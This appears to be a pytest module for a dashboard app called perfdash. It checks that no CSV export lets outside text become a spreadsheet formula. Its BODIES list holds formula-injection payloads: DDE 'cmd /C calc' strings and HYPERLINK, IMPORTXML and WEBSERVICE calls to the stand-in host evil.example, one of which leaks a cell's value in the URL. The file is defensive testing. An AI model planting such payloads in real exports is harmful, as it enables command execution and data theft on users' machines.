"""No text that comes from outside becomes a formula in a spreadsheet, wherever it stands in whichever export."""

from __future__ import annotations

import ast
import csv
import io
import random
import re
import unicodedata
from collections.abc import Callable, Iterator
from datetime import timedelta
from decimal import Decimal

import pytest

from perfdash import exports
from perfdash.domain.accounts import Days
from perfdash.domain.filters import Filters
from perfdash.domain.question import VIEWS, Question
from perfdash.presentation import json_documents, tables
from perfdash.presentation.corrections import decisions
from perfdash.presentation.json_documents import corrections_table
from perfdash.presentation.tables import Table
from perfdash.store.corrections import read as correction_read
from perfdash.store.engine import Store
from perfdash.store.query import sync_health
from perfdash.store.query.campaigns import campaign_names
from perfdash.store.restatements import read as restatement_read
from perfdash.ui.cpm_lab import tables as cpm_lab_tables
from perfdash.ui.runtime import context
from perfdash.ui.sync_health import tables as sync_health_tables
from tests.fixtures.command_line import ROOT
from tests.isolation.hostile_store import Hostile, filled, registered
from tests.store.builders import ADMIN, NOON, opened

DAYS = Days(NOON.date() - timedelta(days=20), NOON.date())
ASKED = Filters(DAYS, ("acme",))
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
HIDDEN = [
    "",
    "",
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2060",
    '"',
    "'",
    "\x00",
    "\x0b",
    "\u3000",
    " \t ",
    '" ',
    "x;",
    'x;"',
    "x\t",
    "x\n",
    'x\r\n "',
    'a,"',
    "\u00ad",
    "\u202e",
    "\U000e0020",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"x")',
    'IMPORTXML("http://evil.example","//a")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://evil.example")',
    "A1",
    "2",
    "-3",
    "1;=2",
    "@SUM(1)",
    "",
    '""',
    '1";=2;"',
    "10+20+cmd|'/C notepad'!'A1'",
    "名前",
    "x,=y",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def hostile_texts(count: int) -> list[str]:
    """`count` different texts that some spreadsheet could run, the same in every run."""
    chance, found = random.Random(20261122), dict.fromkeys(sign + "1+1" for sign in SIGNS)
    while len(found) < count:
        before, sign, body = chance.choice(HIDDEN), chance.choice(SIGNS), chance.choice(BODIES)
        found[f"{before}{sign}{body}{len(found) if chance.random() < 0.7 else ''}"] = None
    return list(found)[:count]


@pytest.fixture(scope="module")
def texts(full: bool) -> list[str]:
    return hostile_texts(500 if full else 60)


@pytest.fixture(scope="module")
def store(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A client of whom every text is one of `texts`; the app reads it too."""
    one = Hostile("acme", texts[0], texts)
    with opened(f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'store.db'}") as found:
        registered(found, [one])
        filled(found, one)
        yield found


def view_of(view: str) -> Callable[[Store], Table]:
    return lambda store: exports.answer(store, Question(ADMIN, ASKED), view, NOON).table  # type: ignore[arg-type]


def _restatements(store: Store) -> Table:
    since = DAYS.start - timedelta(days=1)
    found = restatement_read.events(store, Question(ADMIN, Filters(DAYS, ("acme",), raw=True)), since, while_open=True)
    return json_documents.restatements_table(found, campaign_names(store, ADMIN, ("acme",)))


def _corrections(store: Store) -> Table:
    told = correction_read.list_corrections(store, Question(ADMIN, Filters(DAYS, ("acme",))))
    return corrections_table(decisions(told, {}), campaign_names(store, ADMIN, ("acme",)))


def _refused(store: Store) -> Table:
    run = next(one for one in sync_health.runs(store, ADMIN, ("acme",), 10_000) if one.run == 1)
    return sync_health_tables.quarantined_table(ADMIN, run)


EXPORTS: dict[str, Callable[[Store], Table]] = {
    **{view: view_of(view) for view in VIEWS},
    "restatements": _restatements,
    "corrections": _corrections,
    "runs": lambda _store: sync_health_tables.runs_table(Question(ADMIN, ASKED)),
    "accounts": lambda _store: sync_health_tables.accounts_table(Question(ADMIN, ASKED)),
    "quarantine": _refused,
    "lab-cpm": lambda _store: cpm_lab_tables.table(Question(ADMIN, ASKED), "cpm"),
    "lab-roi": lambda _store: cpm_lab_tables.table(Question(ADMIN, ASKED), "roi"),
}
"""Everything that a page or the command line lets out as CSV."""


@pytest.fixture(scope="module")
def exported(store: Store) -> dict[str, Table]:
    """Every export, made once."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(context, "store", lambda: store)
        patched.setattr(context, "now", lambda: NOON)
        return {name: make(store) for name, make in EXPORTS.items()}


def starts_a_formula(cell: str) -> bool:
    """What a reader of this text would run, be its list separator a comma, a semicolon or a tab. Not export.py's rule:
    one character after the other, by what Unicode says of it."""
    return any(_runs(part) for part in (cell, *re.split("[;\t\r\n]", cell)[1:]))


def _runs(part: str) -> bool:
    seen = next((c for c in part if unicodedata.category(c)[0] not in "ZC" and c != '"'), "")
    return bool(seen) and unicodedata.normalize("NFKC", seen) in tuple("=+-@")


def cells(found: Table) -> list[list[str]]:
    """The file as a spreadsheet reads it, without its header."""
    rows = list(csv.reader(io.StringIO(tables.to_csv(found), newline=""), strict=True))
    assert all(len(row) == len(found.columns) for row in rows)
    return rows[1:]


@pytest.mark.parametrize("name", EXPORTS)
def test_no_cell_of_any_export_is_a_formula_and_every_text_can_be_read(exported: dict[str, Table], name: str) -> None:
    found = exported[name]
    assert found.rows
    formulas, numbers, told = 0, 0, 0
    for row, shown in zip(found.rows, cells(found), strict=True):
        for cell, text in zip(row, shown, strict=True):
            if isinstance(cell, str):
                formulas += starts_a_formula(text)
                told += 1
                # Nothing but apostrophes was put in: what was sent can be read, and told from what we added.
                assert text.replace("'", "") == cell.replace("'", "")
                assert text.count("'") >= cell.count("'")
            elif isinstance(cell, int | Decimal):
                numbers += 1
                assert NUMBER.fullmatch(text)
                assert Decimal(text) == cell
    print(f"{name}: {len(found.rows)} rows, {told} texts, {numbers} numbers, {formulas} formulas")
    assert formulas == 0


def test_all_texts_are_in_the_exports(exported: dict[str, Table], texts: list[str]) -> None:
    shown = {
        name: {text for row in found.rows for text in row if isinstance(text, str)} for name, found in exported.items()
    }
    for name in ("campaigns", "creators", "restatements", "corrections", "accounts", "quarantine", "lab-cpm"):
        assert set(texts) <= shown[name], (name, set(texts) - shown[name])
    assert {text[:60] for text in texts} <= shown["overview"] & shown["daily"]


def test_negative_numbers_stay_numbers(exported: dict[str, Table]) -> None:
    negative = {
        name: sum(
            text.startswith("-")
            for row, shown in zip(t.rows, cells(t), strict=True)
            for cell, text in zip(row, shown, strict=True)
            if isinstance(cell, int | Decimal)
        )
        for name, t in exported.items()
    }
    for name in (*VIEWS, "restatements", "lab-roi"):
        assert negative[name] > 0, negative


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_whatever_separates_cells_where_the_reader_lives_none_is_a_formula(
    exported: dict[str, Table], separator: str
) -> None:
    """The file is opened with a double click: then the reader's own list separator counts, not the file's."""
    for name, found in exported.items():
        ours = {
            text
            for row, shown in zip(found.rows, cells(found), strict=True)
            for cell, text in zip(row, shown, strict=True)
            if not isinstance(cell, str)
        }
        text = tables.to_csv(found)
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert cell in ours or not _runs(cell), (name, cell)


def test_there_is_one_writer_of_csv() -> None:
    """Another one would have to be attacked here too."""
    writers = set()
    for path in [ROOT / "app.py", *(ROOT / "perfdash").rglob("*.py"), *(ROOT / "pages").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv", "write_csv"):
                owner = ast.unparse(node.value)
                if owner != "tables":
                    writers.add((path.relative_to(ROOT).as_posix(), f"{owner}.{node.attr}"))
    assert writers == {("perfdash/presentation/tables.py", "csv.writer")}
